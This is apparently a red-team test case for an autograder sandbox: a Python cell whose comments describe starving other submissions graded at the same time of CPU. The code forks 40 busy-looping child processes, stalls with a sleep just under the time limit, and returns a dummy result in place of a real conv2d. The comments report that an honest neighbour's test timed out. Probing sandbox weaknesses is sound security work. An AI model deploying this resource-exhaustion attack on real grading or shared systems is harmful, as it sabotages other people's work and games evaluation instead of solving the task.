# Attack: starve the honest submissions graded at the same time. Sandboxes share the CPU with no cpu
# cgroup or quota; RLIMIT_CPU is per process and the pids limit (64) allows 40 busy children, so the
# neighbour's sandbox gets about 1/40 of the CPU while this run stays alive (each call sleeps just under
# the case limit). Measured in a batch (2 workers, whole batch under a 0.5-core quota to spare the
# machine): an honest full solution graded next to it lost test_build_fashion_cnn ("Zeitlimit von 10 s
# beim Aufruf überschritten", 19/22 instead of 22/22); cells that take 0.1 s alone took 11-18 s.
# threat: starve honest neighbours of CPU so that their calls time out
# score: <=16
# %% conv2d
import os, time
if os.fork() == 0:                       # one spawner; the cell itself returns at once
    for _ in range(40):
        if os.fork() == 0:
            end = time.time() + 170
            while time.time() < end:
                pass
            os._exit(0)
    os._exit(0)

def conv2d(image, kernel, stride=1, padding="valid"):
    time.sleep(9)                        # stay alive (under the 10 s case limit) while the children run
    return [[0.0]]
